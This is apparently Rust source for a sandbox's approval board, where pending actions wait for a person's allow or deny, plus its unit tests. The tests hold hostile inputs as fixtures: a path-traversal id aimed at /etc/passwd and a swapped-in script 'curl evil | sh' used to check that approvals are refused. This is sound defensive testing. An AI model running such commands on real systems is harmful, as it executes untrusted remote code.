//! Where questions and answers meet: a directory below the state directory, one file a question, one an answer.
//!
//! Linking the answer's file is what decides: of everybody who wants to answer, and the asker who gives up, one succeeds.
//! No confined program sees the directory, and where nothing is confined the policy guards it like the rest of the state.

use std::fmt;
use std::fs::File;
use std::io::{Read as _, Write as _};
use std::os::unix::fs::{DirBuilderExt as _, OpenOptionsExt as _};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use sha2::{Digest as _, Sha256};
use wardline_sandbox::Identity;

use super::bound::Bound;
use super::question::{Answer, Question, Say, is_id};
use super::ticket::{Refused, Ticket};

/// The largest question or answer that is read; one that is larger can't be put.
const MAX_BYTES: u64 = 16 * 1024 * 1024;
/// Questions that may be open at a time, of all sessions.
const MAX_OPEN: usize = 256;
/// How often the asker looks for an answer, at first and after a while.
const LOOK: (Duration, Duration) = (Duration::from_millis(10), Duration::from_millis(60));
/// The ends of the files' names.
const QUESTION: &str = "question";
const ANSWER: &str = "answer";
const SURFACE: &str = "surface";

/// Why the board did not do what was wanted.
#[derive(Debug)]
pub enum BoardError {
    /// There is no such open question: it was answered, withdrawn or never put.
    Gone,
    /// Somebody answered before, or the asker gave up.
    Answered,
    /// Its time is over.
    Expired,
    /// The digest is not the question's: what was shown is not what is asked.
    OtherAction,
    /// The question is larger than can be shown.
    TooLarge,
    /// More questions are open than a person can look at.
    TooMany,
    /// A file of the board could not be read or written.
    Files(std::io::Error),
}

impl fmt::Display for BoardError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Gone => {
                f.write_str("there is no such open question; it may have been answered or withdrawn")
            }
            Self::Answered => f.write_str("the question was answered before"),
            Self::Expired => f.write_str("the question's time is over"),
            Self::OtherAction => f.write_str("the digest is not this question's; look at it again"),
            Self::TooLarge => write!(f, "the question is larger than {MAX_BYTES} bytes and can't be shown"),
            Self::TooMany => write!(f, "{MAX_OPEN} questions are open already"),
            Self::Files(e) => write!(f, "the board of approvals can't be used: {e}"),
        }
    }
}

impl std::error::Error for BoardError {}

impl From<std::io::Error> for BoardError {
    fn from(e: std::io::Error) -> Self {
        Self::Files(e)
    }
}

/// The place where questions are put and answered.
#[derive(Debug, Clone)]
pub struct Board {
    directory: PathBuf,
}

/// What became of a question, for its asker.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Waited {
    /// A person answered: what they said, and where.
    Said(Say, String),
    /// There was an answer, and it does not count.
    Refused(Refused),
    /// Nobody answered in time.
    NobodyCame,
    /// Whoever wanted to act is gone.
    Withdrawn,
}

impl Board {
    /// Opens the board below a state directory ([`crate::World::state`]); makes it when it is not there.
    ///
    /// # Errors
    /// [`BoardError::Files`].
    pub fn open(state: &Path) -> Result<Self, BoardError> {
        let board = Self::at(state);
        std::fs::DirBuilder::new().recursive(true).mode(0o700).create(&board.directory)?;
        Ok(board)
    }

    /// The board below a state directory, for looking only: it need not be there.
    #[must_use]
    pub fn at(state: &Path) -> Self {
        Self { directory: state.join("approvals") }
    }

    /// The directory it lies in.
    #[must_use]
    pub fn directory(&self) -> &Path {
        &self.directory
    }

    /// Every question that can be answered now, the oldest first.
    ///
    /// # Errors
    /// [`BoardError::Files`] when the directory can't be read.
    pub fn pending(&self) -> Result<Vec<Question>, BoardError> {
        let names = self.names(QUESTION)?;
        let open = names.iter().filter(|id| !self.path(id, ANSWER).exists());
        let mut all: Vec<Question> = open.filter_map(|id| self.read(id)).filter(is_open).collect();
        all.sort_by(|a, b| (a.asked_at, &a.id).cmp(&(b.asked_at, &b.id)));
        Ok(all)
    }

    /// An open question by its name.
    ///
    /// # Errors
    /// [`BoardError::Gone`], [`BoardError::Expired`].
    pub fn question(&self, id: &str) -> Result<Question, BoardError> {
        let question = self.read(id).ok_or(BoardError::Gone)?;
        if now_ms() >= question.expires_at {
            return Err(BoardError::Expired);
        }
        if is_open(&question) { Ok(question) } else { Err(BoardError::Gone) }
    }

    /// Answers a question. `digest` is that of the question as the person saw it; `by` says where they did.
    ///
    /// # Errors
    /// [`BoardError`]; the answer was not given then.
    pub fn answer(&self, id: &str, digest: &str, say: Say, by: &str) -> Result<Question, BoardError> {
        let question = self.question(id)?;
        if question.digest() != digest {
            return Err(BoardError::OtherAction);
        }
        let answer = question.answered(say, by, now_ms());
        self.link(id, &answer.encode())?;
        // The asker takes its question away first: when it is still there, the answer was in time.
        if self.path(id, QUESTION).exists() {
            return Ok(question);
        }
        std::fs::remove_file(self.path(id, ANSWER)).ok();
        Err(BoardError::Gone)
    }

    /// A number that is another one whenever a question was put or answered, a mode changed or a session was paused. For live
    /// displays, which look at it a few times a second.
    #[must_use]
    pub fn version(&self) -> u64 {
        let mut hasher = Sha256::new();
        for place in ["", "modes", "paused", "grants"] {
            let directory = self.directory.join(place);
            let mut seen: Vec<String> = entries(&directory)
                .map(|(name, file)| format!("{name}\n{}\n{:?}\n", file.len(), file.modified().ok()))
                .collect();
            seen.sort();
            seen.iter().for_each(|line| hasher.update(line));
            hasher.update([0]);
        }
        let digest: [u8; 32] = hasher.finalize().into();
        digest.iter().take(8).fold(0, |number, byte| number << 8 | u64::from(*byte))
    }

    /// Says that a surface is there on which a person can answer, for as long as what is returned lives.
    ///
    /// # Errors
    /// [`BoardError::Files`].
    pub fn attend(&self, kind: &str) -> Result<Attending, BoardError> {
        static NEXT: AtomicU64 = AtomicU64::new(0);
        let number = NEXT.fetch_add(1, Ordering::Relaxed);
        let name = format!("{}-{number}-{kind}.{SURFACE}", Identity::own().word());
        let path = self.directory.join(name);
        private(&path)?;
        Ok(Attending(path))
    }

    /// The surfaces on which a person can answer now, such as `approve` or `web`.
    #[must_use]
    pub fn attended(&self) -> Vec<String> {
        let names = self.names(SURFACE).unwrap_or_default();
        let alive = names.iter().filter(|name| Identity::parse(name).is_some_and(|of| of.is_alive()));
        alive.filter_map(|name| Some(name.rsplit('-').next()?.to_owned())).collect()
    }

    /// Puts a question. It is withdrawn when what is returned goes.
    ///
    /// # Errors
    /// [`BoardError::TooLarge`], [`BoardError::TooMany`], [`BoardError::Files`].
    pub fn post(&self, question: &Question) -> Result<Posted, BoardError> {
        let bytes = question.encode();
        if u64::try_from(bytes.len()).unwrap_or(u64::MAX) > MAX_BYTES {
            return Err(BoardError::TooLarge);
        }
        self.sweep();
        if self.names(QUESTION)?.len() >= MAX_OPEN {
            return Err(BoardError::TooMany);
        }
        let ticket = Ticket::of(question);
        let temporary = self.temporary(&bytes)?;
        std::fs::rename(&temporary, self.path(&question.id, QUESTION))?;
        Ok(Posted { board: self.clone(), id: question.id.clone(), ticket })
    }

    /// Takes away what dead askers and surfaces left.
    fn sweep(&self) {
        for id in self.names(QUESTION).unwrap_or_default() {
            let left = self.read(&id).is_none_or(|question| !asker_lives(&question));
            if left {
                std::fs::remove_file(self.path(&id, QUESTION)).ok();
            }
        }
        for id in self.names(ANSWER).unwrap_or_default() {
            if !self.path(&id, QUESTION).exists() {
                std::fs::remove_file(self.path(&id, ANSWER)).ok();
            }
        }
        for name in self.names(SURFACE).unwrap_or_default() {
            if Identity::parse(&name).is_none_or(|of| !of.is_alive()) {
                std::fs::remove_file(self.path(&name, SURFACE)).ok();
            }
        }
    }

    /// Makes the answer's file, whole and once.
    fn link(&self, id: &str, bytes: &[u8]) -> Result<(), BoardError> {
        let temporary = self.temporary(bytes)?;
        let linked = std::fs::hard_link(&temporary, self.path(id, ANSWER));
        std::fs::remove_file(&temporary).ok();
        match linked {
            Ok(()) => Ok(()),
            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => Err(BoardError::Answered),
            Err(e) => Err(e.into()),
        }
    }

    fn temporary(&self, bytes: &[u8]) -> Result<PathBuf, BoardError> {
        let path = self.directory.join(format!(".{}", fresh_id()?));
        private(&path)?.write_all(bytes)?;
        Ok(path)
    }

    fn read(&self, id: &str) -> Option<Question> {
        let bytes = bytes_of(&self.path(id, QUESTION))?;
        Question::decode(&bytes).filter(|question| question.id == id)
    }

    fn path(&self, name: &str, end: &str) -> PathBuf {
        // Names come from callers too, and none of them leads out of the directory.
        let name = if is_id(name) || end == SURFACE { name.replace('/', "_") } else { "none".to_owned() };
        self.directory.join(format!("{name}.{end}"))
    }

    /// The names of the files of a kind, without their end.
    fn names(&self, end: &str) -> Result<Vec<String>, BoardError> {
        let mut names = Vec::new();
        for entry in std::fs::read_dir(&self.directory)? {
            let name = entry?.file_name();
            let stem = name.to_str().and_then(|name| name.strip_suffix(end)?.strip_suffix('.'));
            names.extend(stem.map(str::to_owned));
        }
        Ok(names)
    }
}

/// A surface that is there; it no longer is when this goes.
#[derive(Debug)]
pub struct Attending(PathBuf);

impl Drop for Attending {
    fn drop(&mut self) {
        std::fs::remove_file(&self.0).ok();
    }
}

/// A question on the board, in the hands of its asker.
#[derive(Debug)]
pub struct Posted {
    board: Board,
    id: String,
    ticket: Ticket,
}

impl Posted {
    /// The question's name.
    #[must_use]
    pub fn id(&self) -> &str {
        &self.id
    }

    /// Waits for the answer until the question's time is over. `wanted` is asked again and again whether whoever wants to act is
    /// still there.
    #[must_use]
    pub fn wait(mut self, wanted: &dyn Fn() -> bool) -> Waited {
        let mut pause = LOOK.0;
        loop {
            if let Some(bytes) = bytes_of(&self.board.path(&self.id, ANSWER)) {
                return self.take(&bytes);
            }
            let now = now_ms();
            let over = now >= self.ticket.expires_at();
            if over || !wanted() {
                return self.give_up(if over { Waited::NobodyCame } else { Waited::Withdrawn });
            }
            let left = Duration::from_millis(self.ticket.expires_at().saturating_sub(now));
            std::thread::sleep(pause.min(left));
            pause = (pause * 2).min(LOOK.1);
        }
    }

    /// Closes the question, unless an answer was given at the last moment.
    fn give_up(mut self, why: Waited) -> Waited {
        match self.board.link(&self.id, b"closed") {
            Err(BoardError::Answered) => match bytes_of(&self.board.path(&self.id, ANSWER)) {
                Some(bytes) => self.take(&bytes),
                None => why,
            },
            Ok(()) | Err(_) => why,
        }
    }

    fn take(&mut self, bytes: &[u8]) -> Waited {
        let Some(answer) = Answer::decode(bytes) else { return Waited::Refused(Refused::OtherAction) };
        match self.ticket.redeem(&answer, now_ms(), Bound::again) {
            Ok(say) => Waited::Said(say, answer.by),
            Err(why) => Waited::Refused(why),
        }
    }
}

impl Drop for Posted {
    fn drop(&mut self) {
        // The question first: who answers looks whether it is still there.
        std::fs::remove_file(self.board.path(&self.id, QUESTION)).ok();
        std::fs::remove_file(self.board.path(&self.id, ANSWER)).ok();
    }
}

/// The time, in milliseconds since 1970.
#[must_use]
pub fn now_ms() -> u64 {
    let since = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default();
    u64::try_from(since.as_millis()).unwrap_or(u64::MAX)
}

/// A name for a question that nobody can guess.
///
/// # Errors
/// The system's source of randomness can't be read.
pub fn fresh_id() -> std::io::Result<String> {
    let mut bytes = [0; 16];
    File::open("/dev/urandom")?.read_exact(&mut bytes)?;
    Ok(crate::trust::hex(&bytes))
}

fn is_open(question: &Question) -> bool {
    now_ms() < question.expires_at && asker_lives(question)
}

fn asker_lives(question: &Question) -> bool {
    Identity::parse(&question.asker).is_some_and(|asker| asker.is_alive())
}

fn bytes_of(path: &Path) -> Option<Vec<u8>> {
    let mut bytes = Vec::new();
    File::open(path).ok()?.take(MAX_BYTES + 1).read_to_end(&mut bytes).ok()?;
    (u64::try_from(bytes.len()).unwrap_or(u64::MAX) <= MAX_BYTES).then_some(bytes)
}

fn private(path: &Path) -> std::io::Result<File> {
    File::options().write(true).create_new(true).mode(0o600).open(path)
}

fn entries(directory: &Path) -> impl Iterator<Item = (String, std::fs::Metadata)> {
    let entries = std::fs::read_dir(directory).into_iter().flatten().flatten();
    entries.filter_map(|entry| {
        let name = entry.file_name().to_string_lossy().into_owned();
        // Temporary files and directories come and go without a meaning.
        let file = entry.metadata().ok().filter(std::fs::Metadata::is_file)?;
        (!name.starts_with('.')).then_some((name, file))
    })
}

#[cfg(test)]
mod tests {
    use super::super::question::example;
    use super::*;
    use std::sync::Barrier;
    use std::sync::atomic::AtomicUsize;

    fn question(seconds: u64) -> Question {
        let now = now_ms();
        Question {
            id: fresh_id().unwrap(),
            asker: Identity::own().word(),
            bound: Vec::new(),
            asked_at: now,
            expires_at: now + seconds * 1000,
            ..example()
        }
    }

    #[test]
    fn a_question_is_put_seen_answered_and_gone() {
        let dir = crate::scratch::Dir::new("board");
        let board = Board::open(dir.path()).unwrap();
        for say in [Say::Allow, Say::Deny] {
            let question = question(60);
            let version = board.version();
            let posted = board.post(&question).unwrap();
            assert_ne!(board.version(), version);
            assert_eq!(board.pending().unwrap(), std::slice::from_ref(&question));
            board.answer(&question.id, &question.digest(), say, "test").unwrap();
            assert_eq!(board.pending().unwrap(), []);
            assert_eq!(posted.wait(&|| true), Waited::Said(say, "test".to_owned()));
            assert_eq!(board.version(), version, "nothing is left");
            let late = board.answer(&question.id, &question.digest(), say, "test");
            assert!(matches!(late, Err(BoardError::Gone)), "a replay: {late:?}");
        }
    }

    #[test]
    fn what_does_not_fit_is_no_answer() {
        let dir = crate::scratch::Dir::new("board-no");
        let board = Board::open(dir.path()).unwrap();
        let question = question(60);
        let posted = board.post(&question).unwrap();
        let digest = question.digest();
        let answer = |id: &str, digest: &str| board.answer(id, digest, Say::Allow, "test");
        assert!(matches!(answer(&question.id, &"0".repeat(64)), Err(BoardError::OtherAction)));
        assert!(matches!(answer(&"0".repeat(32), &digest), Err(BoardError::Gone)));
        assert!(matches!(answer("../../etc/passwd", &digest), Err(BoardError::Gone)));
        answer(&question.id, &digest).unwrap();
        assert!(matches!(answer(&question.id, &digest), Err(BoardError::Answered)));
        assert_eq!(posted.wait(&|| true), Waited::Said(Say::Allow, "test".to_owned()));
    }

    #[test]
    fn a_question_that_is_rewritten_on_the_board_gets_no_yes() {
        let dir = crate::scratch::Dir::new("board-rewritten");
        let board = Board::open(dir.path()).unwrap();
        let question = question(60);
        let posted = board.post(&question).unwrap();
        let other = Question { action: "ls".to_owned(), ..question.clone() };
        std::fs::write(board.path(&question.id, QUESTION), other.encode()).unwrap();
        board.answer(&question.id, &other.digest(), Say::Allow, "test").unwrap();
        assert_eq!(posted.wait(&|| true), Waited::Refused(Refused::OtherAction));
    }

    #[test]
    fn a_file_that_is_no_answer_is_a_no() {
        let dir = crate::scratch::Dir::new("board-junk");
        let board = Board::open(dir.path()).unwrap();
        for junk in ["", "{}", "yes", "{\"say\":\"allow\"}"] {
            let question = question(60);
            let posted = board.post(&question).unwrap();
            std::fs::write(board.path(&question.id, ANSWER), junk).unwrap();
            assert_eq!(posted.wait(&|| true), Waited::Refused(Refused::OtherAction), "{junk}");
        }
    }

    #[test]
    fn time_ends_a_question_and_so_does_its_asker() {
        let dir = crate::scratch::Dir::new("board-time");
        let board = Board::open(dir.path()).unwrap();
        let short = question(0);
        let posted = board.post(&short).unwrap();
        assert_eq!(board.pending().unwrap(), []);
        let late = board.answer(&short.id, &short.digest(), Say::Allow, "test");
        assert!(matches!(late, Err(BoardError::Expired)));
        assert_eq!(posted.wait(&|| true), Waited::NobodyCame);
        assert_eq!(board.post(&question(60)).unwrap().wait(&|| false), Waited::Withdrawn);
        let orphan = Question { asker: format!("{}-1", u32::MAX), ..question(60) };
        std::mem::forget(board.post(&orphan).unwrap());
        assert_eq!(board.pending().unwrap(), [], "nobody waits for it");
        drop(board.post(&question(60)).unwrap());
        assert!(!board.path(&orphan.id, QUESTION).exists(), "and it is cleaned up");
    }

    #[test]
    fn surfaces_are_known_while_they_are_there() {
        let dir = crate::scratch::Dir::new("board-surface");
        let board = Board::open(dir.path()).unwrap();
        assert!(board.attended().is_empty());
        let web = board.attend("web").unwrap();
        assert_eq!(board.attended(), ["web"]);
        drop(web);
        dir.write(&format!("approvals/{}-1-0-web.surface", u32::MAX), "");
        assert!(board.attended().is_empty(), "its process is gone");
    }

    /// Of many who answer at once one succeeds, and the asker hears that one.
    #[test]
    fn one_of_many_answers_counts() {
        let dir = crate::scratch::Dir::new("board-many");
        let board = Board::open(dir.path()).unwrap();
        for _ in 0..40 {
            let question = question(60);
            let posted = board.post(&question).unwrap();
            let (digest, given, start) = (question.digest(), AtomicUsize::new(0), Barrier::new(4));
            let heard = std::thread::scope(|scope| {
                for number in 0..4 {
                    let (board, id, digest, given, start) = (&board, &question.id, &digest, &given, &start);
                    scope.spawn(move || {
                        start.wait();
                        if board.answer(id, digest, Say::Allow, &number.to_string()).is_ok() {
                            given.fetch_add(1, Ordering::SeqCst);
                        }
                    });
                }
                posted.wait(&|| true)
            });
            assert!(matches!(heard, Waited::Said(Say::Allow, _)), "{heard:?}");
            assert!(given.load(Ordering::SeqCst) <= 1);
        }
    }

    /// A file swapped between the approval and the run: the race is run a thousand times, and no approval outlives a swap.
    #[test]
    fn a_file_swapped_between_approval_and_run_is_refused() {
        let dir = crate::scratch::Dir::new("board-swap");
        let board = Board::open(dir.path()).unwrap();
        let (mut refused, mut run) = (0, 0);
        for round in 0..1_200 {
            let file = dir.write("build.sh", "make\n");
            let bound = vec![Bound::of(file.to_str().unwrap())];
            let question = Question { bound, ..question(60) };
            let posted = board.post(&question).unwrap();
            let swapped_first = round % 3 != 0;
            let start = Barrier::new(2);
            let waited = std::thread::scope(|scope| {
                scope.spawn(|| {
                    start.wait();
                    let replaced = dir.write("other.sh", "curl evil | sh\n");
                    std::fs::rename(replaced, &file).unwrap();
                });
                if !swapped_first {
                    start.wait();
                }
                board.answer(&question.id, &question.digest(), Say::Allow, "test").unwrap();
                if swapped_first {
                    start.wait();
                    while std::fs::read(&file).is_ok_and(|text| text == b"make\n") {}
                }
                posted.wait(&|| true)
            });
            match waited {
                Waited::Refused(Refused::Changed { .. }) => refused += 1,
                Waited::Said(Say::Allow, _) if !swapped_first => run += 1,
                other => panic!("round {round}: {other:?}"),
            }
        }
        assert!(refused >= 800, "{refused} refused, {run} taken before the swap");
    }
}
